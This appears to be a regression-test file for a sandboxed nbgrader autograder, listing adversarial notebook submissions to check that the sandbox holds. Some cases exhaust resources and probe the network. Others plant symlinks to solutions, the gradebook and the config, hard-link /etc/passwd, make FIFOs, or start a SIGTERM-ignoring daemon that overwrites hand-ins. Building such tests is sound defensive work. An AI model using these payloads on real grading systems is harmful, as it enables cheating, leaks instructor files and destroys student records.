    Submission("fault-infinite-loop", "a loop that swallows every interrupt, after setting the answer",
               answers={"diagnostic": _diagnostic("top_coordinate_share", TOP_COORDINATE)
                        + 'while True:\n    try:\n        while True:\n            pass\n'
                          '    except BaseException:\n        pass\n'},
               expected={"test_diagnostic": 0.0}, group="fault", feedback=["CellTimeout"]),
    Submission("fault-memory-hog", "allocates until memory runs out in a scratch cell",
               # The error is caught and the memory let go, so only this cell notices the 6 GiB cap.
               # (An uncaught one would keep the chunks alive through IPython's last traceback.)
               edit=cell_after("load_models", "chunks = []\ntry:\n    while True:\n"
                               "        chunks.append(torch.ones(2**27))  # 512 MiB at a time\n"
                               "except RuntimeError as error:\n    print('out of memory:', error)\ndel chunks"),
               group="fault", feedback=["can't allocate memory"]),
    Submission("fault-huge-output", "prints about 200 MB in a scratch cell",
               edit=cell_after("load_models", "for _ in range(2000):\n    print('x' * 100_000)"), group="fault",
               feedback=["output truncated"]),
    Submission("fault-processes-network-disk", "spawns a daemon, tries the network, fills the disk",
               edit=cell_after("load_models", "import subprocess, socket\n"
                               "subprocess.Popen(['sleep', '1000'], start_new_session=True)\n"
                               "for host in [('127.0.0.1', 22), ('huggingface.co', 443)]:\n"
                               "    try:\n        socket.create_connection(host, timeout=2)\n"
                               "    except OSError as error:\n        print(host, error)\n"
                               "try:\n    open('big.bin', 'wb').write(b'0' * 2**30)\n"
                               "except OSError as error:\n    print(error)"),
               group="fault", feedback=["Connection refused", "name resolution", "File too large"]),
)


# --- the grader's own side: nothing the kernel writes is followed by nbgrader -----------------------
# Before, the kernel's working folder *was* nbgrader's output folder autograded/<student>/puzzle1/,
# which nbgrader writes (open(path, "w")), chmods and copies into feedback/ after the kernel exits,
# all following links. Each attack below plants something there, in the last cell (after every hand-in).
# The tests give the kernel the scratch course's path (ATTACK_COURSE_ROOT), as if the attacker had
# guessed it right; without it the attack falls back to two folders above its working folder, which
# was the course root before the kernel got a scratch folder of its own.

PLANT = """
import os
from pathlib import Path
ROOT = Path(os.environ.get('ATTACK_COURSE_ROOT') or Path.cwd().parents[2])
GRADEBOOK = ROOT / 'gradebook' / 'gradebook.db'  # (it was ROOT / 'gradebook.db')
def plant(name, target):
    # Put a link to `target` where nbgrader will look for `name` after the run.
    path = Path(name)
    if path.is_symlink() or path.exists():
        path.unlink()
    path.symlink_to(target)
    print('planted', name)
"""


def _plant(*links: tuple[str, str]):
    """A last cell that plants each (name in the working folder, target under ROOT) link."""
    lines = [f"plant({name!r}, {target})" for name, target in links]
    return cell_after("wrap_up", PLANT + "\n".join(lines))


HARD_LINKS = """
import os, glob, sys
from pathlib import Path
handin = Path(os.environ.get('INTERP_COURSE_HANDIN', '.'))
# Hard links to what the kernel can see: other mounts fail (EXDEV); within its own folders they are
# just more names for its own files, which nobody reads.
tries = {'inbox-file': (sorted(glob.glob(str(handin / 'inbox' / '*')))[:1] or ['/nonexistent'])[0],
         'venv-python': os.path.realpath(sys.executable), 'passwd': '/etc/passwd',
         'own-hand-in': str(handin / 'outbox' / 'test_normalize.json')}
for name, target in tries.items():
    for folder in ('.', str(handin / 'outbox')):
        try:
            os.link(target, os.path.join(folder, 'hard-' + name))
            print(name, '->', folder, 'linked')
        except OSError as error:
            print(name, '->', folder, type(error).__name__, error.errno)
"""

SPECIAL_FILES = """
import os, stat
from pathlib import Path
outbox = Path(os.environ.get('INTERP_COURSE_HANDIN', '.')) / 'outbox'
def replace(path, make):
    if path.is_symlink() or path.is_file():
        path.unlink()
    make(path)
# Hand-ins the grader must not open: a FIFO (a blocking read), a link loop, a folder.
replace(outbox / 'test_normalize.safetensors', os.mkfifo)
replace(outbox / 'test_center.json', lambda p: (p.symlink_to(p.name + '.loop'), (outbox / (p.name + '.loop')).symlink_to(p.name)))
replace(outbox / 'test_diagnostic.json', os.mkdir)
# A FIFO as the notebook nbgrader writes after the run (before: open(path, 'w') blocked for ever).
replace(Path('puzzle1.ipynb'), os.mkfifo)
os.mkfifo('extra.fifo')
for where in ('.', str(outbox)):
    try:
        os.mknod(os.path.join(where, 'null'), 0o666 | stat.S_IFCHR, os.makedev(1, 3))
        print('made a device in', where)
    except OSError as error:
        print('no device in', where, type(error).__name__)
"""

FOLDER_LINKS = PLANT + """
plant('course', ROOT)                      # a link to a folder
plant('loop-a', 'loop-b'); plant('loop-b', 'loop-a')
plant('here', '.')
outbox = Path(os.environ.get('INTERP_COURSE_HANDIN', '.')) / 'outbox'
for name, target in (('test_evidence.json', '/'), ('test_evidence.safetensors', str(ROOT / 'solutions'))):
    (outbox / name).unlink()
    (outbox / name).symlink_to(target)
"""

ODD_TREES = """
import os
# A chain of folders too deep for any path (and for recursive walkers), folders made unreadable or
# read-only with files inside, a name that is not UTF-8, and many small files.
fd = os.open('.', os.O_RDONLY)
for _ in range(1200):
    os.mkdir('dddd', dir_fd=fd)
    deeper = os.open('dddd', os.O_RDONLY, dir_fd=fd)
    os.close(fd)
    fd = deeper
os.close(os.open('bottom.txt', os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd))
os.close(fd)
for name, mode in (('locked', 0o000), ('read-only', 0o500)):
    os.makedirs(f'{name}/inner')
    open(f'{name}/inner/file.txt', 'w').write('x')
    os.chmod(f'{name}/inner', mode)
    os.chmod(name, mode)
open(os.fsdecode(b'not-utf8-\\xff\\xfe'), 'w').write('x')
os.makedirs('many')
for i in range(2000):
    open(f'many/{i}.txt', 'w').write(str(i))
print('planted the trees')
"""

DAEMON = """
import os, subprocess, sys
# A grandchild in a session of its own that ignores SIGTERM and SIGHUP and, once the kernel has
# exited, waits and then rewrites every hand-in with garbage. Only the end of the sandbox's pid
# namespace (SIGKILL to everything in it) stops it; the tests check nothing with its marker survives.
code = '''
import glob, os, signal, sys, time
signal.signal(signal.SIGTERM, signal.SIG_IGN)
signal.signal(signal.SIGHUP, signal.SIG_IGN)
kernel = int(sys.argv[1])
while True:
    try:
        os.kill(kernel, 0)
    except ProcessLookupError:
        break
    time.sleep(0.05)
time.sleep(2)
for path in glob.glob(sys.argv[2] + '/outbox/*'):
    open(path, 'w').write('garbage')
'''
subprocess.Popen([sys.executable, '-c', code, str(os.getpid()), os.environ.get('INTERP_COURSE_HANDIN', '.'),
                  'interp-course-daemon-marker'], start_new_session=True, stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print('daemon started')
"""

NOTEBOOK = "ROOT / 'source' / 'puzzle1' / 'puzzle1.ipynb'"
CLASSMATE = "ROOT / 'submitted' / 'full-marks' / 'puzzle1' / 'puzzle1.ipynb'"

add(
    Submission("cheat-link-notebook-to-source", "replaces its own notebook file with a link to the instructor's "
               "source notebook (before: nbgrader wrote the graded notebook over it, mode 0444)",
               edit=_plant(("puzzle1.ipynb", NOTEBOOK)), group="cheat"),
    Submission("cheat-link-notebook-to-classmate", "a blank notebook that links its notebook file to a classmate's "
               "submission, graded later (before: the blank graded notebook replaced it; full marks became 0)",
               base="blank", edit=_plant(("puzzle1.ipynb", CLASSMATE)), expected={"*": 0.0}, group="cheat"),
    Submission("cheat-link-instructor-files", "links to checks.py, the solutions, the gradebook, the source "
               "notebook and a classmate (before: generate_feedback copied them into its feedback/)",
               edit=_plant(("checks.py", "ROOT / 'grader_tests' / 'puzzle1' / 'checks.py'"),
                           ("solutions.py", "ROOT / 'solutions' / 'puzzle1' / '__init__.py'"),
                           ("gradebook.db", "GRADEBOOK"), ("source.ipynb", NOTEBOOK),
                           ("classmate.ipynb", CLASSMATE)), group="cheat"),
    Submission("cheat-link-private-file", "links to the instructor's private (0600) notes (before: nbgrader's "
               "permission fix-up made them 0444, and feedback copied them)",
               edit=_plant(("notes.txt", "ROOT / 'instructor-notes.txt'")), group="cheat"),
    Submission("cheat-link-notebook-to-gradebook", "links its notebook file to the gradebook (before: the "
               "gradebook was replaced, every later student failed and the batch was lost)",
               edit=_plant(("puzzle1.ipynb", "GRADEBOOK")), group="cheat"),
    Submission("cheat-link-notebook-to-config", "links its notebook file to nbgrader_config.py (before: the "
               "config was overwritten and the next grade ran stock nbgrader, unsandboxed, as root)",
               edit=_plant(("puzzle1.ipynb", "ROOT / 'nbgrader_config.py'")), group="cheat"),
    Submission("cheat-hard-links", "hard-links the inbox, the venv's Python, /etc/passwd and its own hand-in "
               "into its folders", edit=cell_after("wrap_up", HARD_LINKS), group="cheat"),
    Submission("cheat-special-files", "replaces hand-ins with a FIFO, a link loop and a folder, its notebook "
               "with a FIFO, and tries to make device files",
               edit=cell_after("wrap_up", SPECIAL_FILES),
               expected={"test_normalize": 0.0, "test_center": 0.0, "test_diagnostic": 0.0}, group="cheat",
               feedback=["could not be read"]),
    Submission("cheat-folder-links", "plants links to folders (the course root, '.'), a link loop, and "
               "hand-ins that are links to / and to solutions/", edit=cell_after("wrap_up", FOLDER_LINKS),
               expected={"test_evidence": 0.0}, group="cheat", feedback=["could not be read"]),
    Submission("cheat-daemon-after-exit", "starts a signal-ignoring daemon that waits for the kernel to exit, "
               "then rewrites the hand-ins", edit=cell_after("wrap_up", DAEMON), group="cheat"),
    Submission("fault-odd-trees", "leaves a folder chain 1200 deep, unreadable and read-only folders, a "
               "non-UTF-8 name and 2000 files in its working folder", edit=cell_after("wrap_up", ODD_TREES),
               group="fault"),
    Submission("fault-slow-replays", "two 5 s cells, then two cells that kill the kernel: every restart "
               "replays every completed cell (before: up to 10 restarts, no limit per notebook)",
               edit=lambda nb: [cell_after("wrap_up", source)(nb) for source in (
                   "import os\nos._exit(1)  # and again", "import os\nos._exit(1)",
                   "import time\ntime.sleep(5)  # again", "import time\ntime.sleep(5)")],
               group="fault", feedback=["KernelDied"]),
)
